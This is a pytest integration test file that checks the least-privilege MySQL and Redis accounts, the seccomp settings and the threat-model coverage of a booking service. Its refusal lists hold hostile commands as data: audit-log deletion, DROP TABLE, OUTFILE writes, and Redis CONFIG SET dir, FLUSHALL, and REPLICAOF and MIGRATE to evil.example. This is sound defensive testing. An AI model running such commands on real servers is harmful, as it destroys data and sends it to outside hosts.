# SPDX-License-Identifier: MIT
"""Each part can do its job and no other: as somebody who has taken it over."""

import os
import pathlib
import re
import subprocess

import pymysql
import pytest
import redis

from stack import confs, servers
from stack.database import Database
from stack.layout import TOP
from stack.procs import read_text, spawn
from stack.visitor import wait_until

GRANTS = pathlib.Path(TOP, "schema", "grants.sql").read_text(encoding="utf-8")
ACCOUNTS = ("reservoir", "reservoir_relay", "reservoir_bookctl")
KEY_MADE = ("INSERT INTO api_key (name, key_hash, may_write, created_at)"
            " VALUES ('mine', REPEAT('x', 32), 1, NOW())")

# What nobody but the owner does, and what each account leaves to others.
NOBODY = (
    "DELETE FROM audit", "UPDATE audit SET actor = 'somebody else'",
    "DELETE FROM booking_event", "UPDATE booking_event SET actor = 'x'",
    "DELETE FROM booking", "DELETE FROM service", "DELETE FROM api_key",
    "TRUNCATE TABLE audit", "DROP TABLE audit", "CREATE TABLE mine (i INT)",
    "ALTER TABLE api_key ADD COLUMN mine INT", "UPDATE schema_version SET "
    "version = 1", "SELECT * FROM mysql.user", "CREATE USER mine@localhost",
    "SELECT 1 INTO OUTFILE '/tmp/reservoir-outfile'",
    "CREATE TRIGGER mine BEFORE INSERT ON booking FOR EACH ROW SET @a = 1",
    "CREATE VIEW mine AS SELECT * FROM booking", "LOCK TABLES booking WRITE",
    "GRANT SELECT ON booking TO reservoir@localhost", "SHOW BINARY LOGS",
)
REFUSED = {
    "reservoir": (
        KEY_MADE, "UPDATE api_key SET revoked_at = NULL",
        "UPDATE api_key SET may_write = 1",
        "INSERT INTO form_key (form_key, name, origins, returns, created_at)"
        " VALUES ('x', 'x', 'https://evil.example', '', NOW())",
        "UPDATE form_key SET origins = 'https://evil.example'",
        "DELETE FROM notification", "DELETE FROM question"),
    "reservoir_relay": (
        KEY_MADE, "SELECT * FROM api_key", "SELECT * FROM form_key",
        "SELECT * FROM feed", "SELECT * FROM audit",
        "INSERT INTO booking (ref) VALUES ('x')",
        "INSERT INTO slot_inventory (slot_id, capacity) VALUES (1, 1)",
        "UPDATE slot SET starts_at = NOW()", "DELETE FROM slot",
        "DELETE FROM notification", "UPDATE question SET label = 'x'"),
    "reservoir_bookctl": (),
}


@pytest.fixture(scope="module", autouse=True)
def forgotten(stack):
    """What is refused here on purpose is no fault of a program's."""
    yield
    with redis.Redis(unix_socket_path=stack.env["REDIS_SOCKET"]) as server:
        server.acl_log_reset()


def log_in(stack, account):
    with open(stack.at.secret_file(confs.DB_ACCOUNTS[account]),
              encoding="ascii") as file:
        return pymysql.connect(unix_socket=stack.env["MYSQL_SOCKET"],
                               user=account, password=file.read().strip(),
                               database=confs.DATABASE)


def redis_as(stack, name):
    with open(stack.at.secret_file("redis-" + name),
              encoding="ascii") as file:
        return redis.Redis(unix_socket_path=stack.env["REDIS_SOCKET"],
                           username="reservoir_" + name,
                           password=file.read().strip(),
                           decode_responses=True)


@pytest.mark.parametrize("account", ACCOUNTS)
def test_an_account_is_refused_what_is_not_its_job(stack, account):
    with log_in(stack, account) as connection, connection.cursor() as cursor:
        for words in NOBODY + REFUSED[account]:
            with pytest.raises((pymysql.err.OperationalError,
                                pymysql.err.ProgrammingError)) as refusal:
                cursor.execute(words)
            # 1142 to 1143: table and column; 1044, 1045, 1227: more
            assert refusal.value.args[0] in (1044, 1045, 1142, 1143, 1227,
                                             1410), (words, refusal.value)


def test_each_table_says_who_may_do_what(tables, bookctl):
    """A migration that adds a table adds its lines to schema/grants.sql."""
    assert bookctl("stats")
    found = {row[0] for row in tables.rows(
        "SELECT table_name FROM information_schema.tables"
        " WHERE table_schema = %s", confs.DATABASE)}
    for account in ACCOUNTS[:1] + ACCOUNTS[2:]:
        said = set(re.findall(rf"ON (\w+) TO '{account}'@", GRANTS))
        assert said == found, account


def test_an_account_has_no_more_than_the_file_says(stack, tables):
    for account in ACCOUNTS:
        has = {row[0] for row in tables.rows(
            f"SHOW GRANTS FOR '{account}'@'localhost'")}
        wide = [line for line in has if ".*" in line]
        assert len(wide) == 1 and wide[0].startswith("GRANT USAGE ON *.*")
        assert len(has) - 1 == len(re.findall(rf"TO '{account}'@", GRANTS))


def memory_holds(pid, text):
    """Does that text stand in the process's memory?"""
    with open(f"/proc/{pid}/maps", encoding="ascii") as maps, \
            open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            where, modes = line.split()[:2]
            first, last = (int(word, 16) for word in where.split("-"))
            # What ASan reserves is terabytes, and none of it ours.
            if "rw" not in modes or last - first > 1 << 28:
                continue
            try:
                memory.seek(first)
                if text in memory.read(last - first):
                    return True
            except OSError:
                continue
    return False


@pytest.mark.skipif(os.getuid() != 0,
                    reason="needs root: reads other processes' memory")
def test_a_worker_does_not_know_how_the_relay_logs_in(stack):
    secrets = [pathlib.Path(stack.at.secret_file(name)).read_bytes().strip()
               for name in ("mysql-relay", "redis-relay")]
    workers = [name for name in stack.children("booking") if "worker" in name]
    assert workers
    for secret in secrets:
        assert memory_holds(stack.pid("booking"), secret)
        for name in workers:
            assert not memory_holds(stack.children("booking")[name], secret)


def test_workers_and_relay_are_who_they_should_be(stack, tables, visitor):
    visitor.get("/readyz")
    wait_until(lambda: {"reservoir", "reservoir_relay"} <= {
        row[1] for row in tables.rows("SHOW PROCESSLIST")}, 10, "both accounts")
    with redis.Redis(unix_socket_path=stack.env["REDIS_SOCKET"],
                     decode_responses=True) as server:
        wait_until(lambda: {"reservoir_booking", "reservoir_relay",
                            "reservoir_maild"} <= {
            one["user"] for one in server.client_list()}, 10, "three users")


ADMINISTER = (
    ("FLUSHALL",), ("FLUSHDB",), ("CONFIG", "GET", "*"), ("KEYS", "*"),
    ("CONFIG", "SET", "dir", "/tmp"), ("ACL", "LIST"), ("SHUTDOWN",),
    ("ACL", "SETUSER", "mine", "on", "nopass", "~*", "+@all"), ("MONITOR",),
    ("SAVE",), ("BGREWRITEAOF",), ("CLIENT", "LIST"),
    ("REPLICAOF", "evil.example", "6379"), ("SLAVEOF", "NO", "ONE"),
    ("MODULE", "LIST"), ("SCRIPT", "FLUSH"), ("SUBSCRIBE", "x"),
    ("MIGRATE", "evil.example", "6379", "{maild}:intake", "0", "10"),
    ("EVAL", "return redis.call('FLUSHALL')", "0"), ("GET", "other:key"),
    ("SET", "other:key", "1"), ("DUMP", "{maild}:intake"), ("RANDOMKEY",),
)
OTHERS = {
    "booking": (("DEL", "{maild}:receipts"), ("SET", "{maild}:epoch", "x"),
                ("HSET", "{maild}:paused", "queue", "1"), ("SCAN", "0"),
                ("RPUSH", "{maild}:p:host:1:aa:0", "x"),
                ("HSET", "{maild}:inst", "mine", "1")),
    "relay": (("HSET", "{maild}:paused", "queue", "1"), ("SCAN", "0"),
              ("DEL", "{maild}:cap:a:x"), ("HSET", "{maild}:inst", "x", "1")),
    "maild": (),
    "operator": (("BLMOVE", "{maild}:intake", "{maild}:intake", "LEFT",
                  "LEFT", "1"),),
    "bounce": (("RPUSH", "{maild}:intake", "{}"), ("SCAN", "0"),
               ("DEL", "{maild}:intake"), ("SET", "{maild}:epoch", "x")),
    "amqp": (("LRANGE", "{maild}:intake", "0", "-1"), ("SCAN", "0"),
             ("LPOP", "{maild}:intake"), ("DEL", "{maild}:intake"),
             ("RPUSH", "{maild}:ready", "x"), ("HGET", "{maild}:j:x", "st"),
             ("SCRIPT", "LOAD", "return 1")),
}
NO_SCRIPTS = ("amqp",)


@pytest.mark.parametrize("name", confs.REDIS_USERS)
def test_a_user_of_redis_is_refused_what_is_not_its_job(stack, name):
    with redis_as(stack, name) as user:
        assert user.ping()
        for words in ADMINISTER + OTHERS[name]:
            with pytest.raises((redis.exceptions.NoPermissionError,
                                redis.exceptions.ResponseError)) as refusal:
                user.execute_command(*words)
            assert "permission" in str(refusal.value), words


def test_a_script_is_held_to_the_same(stack):
    """Whoever may run scripts cannot hide in one what it may not do."""
    for name in set(confs.REDIS_USERS) - set(NO_SCRIPTS):
        with redis_as(stack, name) as user:
            for body in ("redis.call('FLUSHALL')",
                         "redis.call('KEYS', '*')"):
                sha = user.script_load("return " + body)
                with pytest.raises(redis.exceptions.ResponseError) as refusal:
                    user.evalsha(sha, 0)
                # Redis 7.0 and 7.2 word it differently.
                assert re.search("can't run this command|ACL failure",
                                 str(refusal.value)), (name, body)


@pytest.mark.parametrize("name", NO_SCRIPTS)
def test_who_runs_no_script_loads_none(stack, name):
    with redis_as(stack, name) as user:
        for call in (lambda: user.script_load("return 1"),
                     lambda: user.eval("return 1", 0),
                     lambda: user.evalsha("0" * 40, 0)):
            with pytest.raises(redis.exceptions.NoPermissionError):
                call()


def test_what_scripts_wrote_is_there_after_a_restart(stack, tmp_path):
    """Redis reads its log as the default user, who may not log in."""
    users = tmp_path / "users.acl"
    users.write_text("".join(
        line + "\n" for line in confs.shipped_redis_users(
            stack.at).splitlines() if line.startswith("user ")))
    words = [servers.REDIS_SERVER, "--port", "0", "--unixsocket",
             str(tmp_path / "s"), "--aclfile", str(users), "--appendonly",
             "yes", "--appendfsync", "always", "--dir", str(tmp_path)]
    login = {"unix_socket_path": str(tmp_path / "s"),
             "username": "reservoir_maild", "decode_responses": True,
             "password": read_text(stack.at.secret_file(
                 "redis-maild")).strip()}

    def answers(user):
        try:
            return user.ping()
        except redis.exceptions.ConnectionError:
            return False

    for time in ("first", "second"):
        proc = spawn(words, str(tmp_path / time), {"PATH": "/usr/bin:/bin"})
        try:
            with redis.Redis(**login) as user:
                wait_until(lambda: answers(user), 30, "Redis")
                if time == "first":
                    sha = user.script_load(
                        "redis.call('SET', KEYS[1], 1)"
                        "redis.call('RPUSH', KEYS[2], 2) return 3")
                    assert user.evalsha(sha, 2, "{maild}:a", "{maild}:b") == 3
                assert user.get("{maild}:a") == "1"
                assert user.lrange("{maild}:b", 0, -1) == ["2"]
            with redis.Redis(unix_socket_path=str(tmp_path / "s")) as nobody, \
                    pytest.raises(redis.exceptions.AuthenticationError):
                nobody.get("{maild}:a")
        finally:
            proc.kill()
            proc.wait()


PRODUCERS = (
    ("HMGET", "{maild}:j:RK7F.confirm.0", "b"), ("LPOP", "{maild}:intake"),
    ("LRANGE", "{maild}:intake", "0", "-1"), ("RPUSH", "{maild}:ready", "x"),
    ("HSET", "{maild}:j:shop-1", "st", "Q"))


def test_a_producer_pushes_and_reads_its_own_verdicts(stack):
    """The example user in etc/redis-users.conf."""
    text = pathlib.Path(TOP, "etc", "redis-users.conf").read_text("utf-8")
    rules = re.search(r"^#user shop on #@shop@ (.*)$", text, re.M)[1]
    own, selector = rules.split(" (")
    with redis.Redis(unix_socket_path=stack.env["REDIS_SOCKET"],
                     decode_responses=True) as server:
        server.execute_command("ACL", "SETUSER", "shop", "on", "nopass",
                               *own.split(), "(" + selector)
        server.hset("{maild}:j:shop-1", "st", "S")
        try:
            with redis.Redis(unix_socket_path=stack.env["REDIS_SOCKET"],
                             username="shop", password="any",
                             decode_responses=True) as shop:
                assert shop.hmget("{maild}:j:shop-1", "st") == ["S"]
                for words in PRODUCERS + ADMINISTER:
                    with pytest.raises(redis.exceptions.ResponseError) as no:
                        shop.execute_command(*words)
                    assert "permission" in str(no.value), words
        finally:
            server.delete("{maild}:j:shop-1")
            server.execute_command("ACL", "DELUSER", "shop")


def test_a_check_notes_an_account_that_may_do_more(stack, tmp_path):
    def check(text):
        path = tmp_path / "booking.conf"
        path.write_text(text, encoding="utf-8")
        return subprocess.run([stack.env["BOOKING_FCGI"], "-t", "-c", path],
                              capture_output=True, text=True, timeout=60,
                              check=True).stderr
    with open(stack.env["BOOKING_CONF"], encoding="utf-8") as file:
        ours = file.read()
    assert "note: " not in check(ours)
    mighty = ours.replace("mysql_user = reservoir\n", "mysql_user = "
                          "reservoir_bookctl\n").replace(
        stack.at.secret_file("mysql") + "\n",
        stack.at.secret_file("mysql-bookctl") + "\n")
    assert re.search(r"mysql_user: mysql_user may do more than it needs: \w+ "
                     "on api_key", check(mighty))
    mighty = "".join(line for line in ours.splitlines(True)
                     if not line.startswith("redis_"))
    assert "redis_user may do more than it needs" in check(mighty)


def test_the_owner_grants_what_a_new_table_needs(stack, tmp_path):
    """As after an upgrade: the file is run again, whatever there is to do."""
    own = Database(stack, tmp_path, "granted")
    for name in sorted(os.listdir(os.path.join(TOP, "schema"))):
        if name != "grants.sql":
            own.give(name)
    with open(own.conf, "a", encoding="utf-8") as file:
        file.write(f"grants_file = {tmp_path}/grants.sql\n")
    own.ask("GRANT ALL ON granted.* TO reservoir_owner@localhost"
            " WITH GRANT OPTION")
    (tmp_path / "grants.sql").write_text(
        "-- nobody\n", encoding="utf-8")
    own.migrate()
    (tmp_path / "grants.sql").write_text(
        "GRANT SELECT ON audit TO reservoir_relay@localhost;\n"
        "GRANT SELECT ON nowhere TO reservoir_relay@localhost;\n",
        encoding="utf-8")
    said = own.migrate(status=78)
    assert f"{tmp_path}/grants.sql: " in said and "nowhere" in said
    assert own.ask("SELECT privilege_type FROM"
                   " information_schema.table_privileges"
                   " WHERE table_schema = 'granted'") == (("SELECT",),)
    own.ask("REVOKE ALL ON granted.audit FROM reservoir_relay@localhost")
    own.close()


def status_of(pid, name):
    return re.search(rf"^{name}:\s+(\d+)$", read_text(
        f"/proc/{pid}/status"), re.M)[1]


@pytest.mark.parametrize("part", ["booking", "maild"])
def test_every_process_has_its_filter(stack, part):
    """What it refuses is tried in tests/unit/daemon/t_fence.c."""
    wait_until(lambda: "worker 0" in stack.children(part), 10, "a worker")
    pids = [stack.pid(part), *stack.children(part).values()]
    for pid in pids:
        assert status_of(pid, "Seccomp") == "2"
        assert status_of(pid, "NoNewPrivs") == "1"


def test_the_page_of_metrics_tells_what_the_kernel_refuses(stack, visitor):
    said = subprocess.run([stack.env["BOOKING_FCGI"], "-V"], text=True,
                          capture_output=True, timeout=60, check=True).stdout
    _, seccomp, landlock = re.search(
        r"(this kernel): seccomp (yes|no), landlock (\d+)\n", said).groups()
    page = visitor.get("/metrics").text
    assert (f'reservoir_fence{{by="seccomp"}} {int(seccomp == "yes")}\n'
            in page)
    assert f'reservoir_fence{{by="landlock"}} {landlock}\n' in page


def test_with_neither_everything_works(whole, visitor, tables, mailbox):
    for part in ("booking", "maild"):
        whole.overrides[part].update(seccomp="no", landlock="no")
        whole.restart(part)
        # In a container there are filters above all of us.
        assert status_of(whole.pid(part), "Seccomp_filters") == status_of(
            os.getpid(), "Seccomp_filters")
    assert 'reservoir_fence{by="seccomp"} 0\n' in visitor.get("/metrics").text
    form = visitor.form(tables.add_slot(2))
    assert visitor.post(form).status_code == 303
    mailbox.wait_for(form["email"])


# What a unit's SystemCallFilter does that lacks the calls of both.
FORBIDDING = """
import ctypes, os, struct, sys
forbidden = {"x86_64": (317, 444), "aarch64": (277, 444)}[os.uname().machine]
code = [(0x20, 0, 0, 0)]                            # the call's number
for number in forbidden:
    code += [(0x15, 0, 1, number), (6, 0, 0, 0x00050001)]   # EPERM
code += [(6, 0, 0, 0x7fff0000)]                     # allowed
text = ctypes.create_string_buffer(b"".join(
    struct.pack("HBBI", *one) for one in code))
program = struct.pack("HxxxxxxP", len(code), ctypes.addressof(text))
libc = ctypes.CDLL(None, use_errno=True)
assert libc.prctl(38, 1, 0, 0, 0) == 0              # no new privileges
assert libc.prctl(22, 2, program, 0, 0) == 0        # seccomp, by a filter
os.execv(sys.argv[1], sys.argv[1:])
"""


@pytest.mark.parametrize("part", ["booking", "maild"])
def test_a_filter_that_forbids_the_fence_is_told_of(whole, part):
    if os.uname().machine not in ("x86_64", "aarch64"):
        pytest.skip("an alternative: no filter for this machine")
    log = pathlib.Path(whole.at.log_file(part))
    size = log.stat().st_size
    whole.before[part] = ["/usr/bin/python3", "-c", FORBIDDING]
    try:
        whole.restart(part)
    finally:
        del whole.before[part]
    told = log.read_bytes()[size:].decode()
    for name in ("landlock", "seccomp"):
        assert told.count(
            f"warning: may not use {name}: a filter above us forbids it") == 1
    whole.restart(part)


def test_each_test_that_the_threat_model_names_is_there():
    top = pathlib.Path(TOP)
    text = (top / "SECURITY.md").read_text(encoding="utf-8")
    model = text[text.index("## Who can do what"):text.index(
        "## What is guarded where")]
    there = {path.name: path.read_text(encoding="utf-8") for path in [
        *top.glob("tests/integration/test_*.py"),
        *top.glob("tests/unit/*/t_*.c"), *top.glob("tests/fuzz/f_*.c")]}
    named = re.findall(r"`((?:test_|t_)\w+\.(?:py|c))`", model)
    assert len(named) > 25 and set(named) <= there.keys(), \
        set(named) - there.keys()
    everything = "".join(there.values())
    for function in re.findall(r"`(test_\w+|[a-z]+(?:_[a-z]+){3,})`", model):
        assert f"{function}(" in everything or f"{function})" in everything, \
            function
    for target in re.findall(r"`(f_\w+)`", model):
        assert target + ".c" in there
